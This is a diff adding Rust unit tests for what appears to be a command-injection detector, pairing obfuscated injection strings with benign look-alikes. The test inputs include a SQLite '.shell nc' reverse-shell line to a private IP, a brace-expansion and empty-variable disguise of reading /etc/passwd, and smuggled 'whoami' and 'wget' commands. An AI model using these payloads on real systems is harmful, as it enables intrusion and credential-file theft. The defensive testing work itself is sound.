@@ -75,3 +75,101 @@ fn benign() {
         assert!(!detect(b), "false positive: {b}");
     }
 }
+
+#[test]
+fn batch_control_flow() {
+    for a in [
+        "for /r c:\\ %variable in (set) do command",
+        "For /R C:\\temp\\ %G IN (*.bak) do Echo del \"%G\"",
+        "FOR /F \"tokens=1\" %i IN (file.txt) DO echo %i",
+        "IF 2 GEQ 15 echo \"bigger\"",
+        "IF /I item1==item2 CMD",
+        "IF /I NOT 1==2 CMD",
+        "if not (2 equ 2) echo hey",
+        "if \"A A\" == \"A A\" echo same",
+        "if [AA] == [AA] echo same",
+        "if/i a==b foo",
+    ] {
+        assert!(detect(a), "missed {a:?}");
+    }
+    for b in [
+        "if (a == b) return x;",
+        "if a == b: print(a)",
+        "if a == b then return end",
+        "if [ \"$a\" == \"$b\" ]; then",
+        "if x == y {",
+        "I wonder if a==b holds",
+        "for all of us in town do come",
+        "if you want, 2 == 2",
+    ] {
+        assert!(!detect(b), "flagged {b:?}");
+    }
+}
+
+#[test]
+fn brace_expansion() {
+    for a in [
+        "{,ifconfig}",
+        "{,ifconfig,eth0}",
+        "{id,}",
+        "{,echo,#test}",
+        "{,cd,/etc,}",
+        "{,$'whoami',}",
+        "{,/?s?/?i?/c?t,/e??/p??s??,}",
+    ] {
+        assert!(detect(a), "missed {a:?}");
+    }
+    for b in [
+        "{id,name}",
+        "{\"id\":1,}",
+        "fields={id, name,}",
+        "{,}",
+        "{,apple,pear}",
+        "{ls,}x is a set",
+    ] {
+        assert!(!detect(b), "flagged {b:?}");
+    }
+}
+
+#[test]
+fn sqlite_dot_commands() {
+    for a in [
+        ";\n.shell nc 10.10.10.1 6666 -e sh",
+        "\";\n. shell nc 10.0.0.1 1 -e sh",
+        "1;.sh whoami",
+        "1;.\"shell whoami",
+        ";\n.databases",
+        "x; .system id",
+    ] {
+        assert!(detect(a), "missed {a:?}");
+    }
+    for b in [
+        "a; .5 litres",
+        "end;.NET is great",
+        "ratio;.s",
+        "see file;.shellrc",
+    ] {
+        assert!(!detect(b), "flagged {b:?}");
+    }
+}
+
+#[test]
+fn empty_expansions_and_unset_variables() {
+    for a in [
+        "www.google.com;c$!at+/et$!c/pas$!swd",
+        "ping`` 127.0.0.1",
+        "pi``ng 127.0.0.1",
+        "ping$() 127.0.0.1",
+        "|$u wget test",
+    ] {
+        assert!(detect(a), "missed {a:?}");
+    }
+    for b in [
+        "Price: $1 (one dollar)",
+        "use ``code`` in markdown",
+        "x; $total cost",
+        "a | $HOME directory",
+    ] {
+        assert!(!detect(b), "flagged {b:?}");
+    }
+}
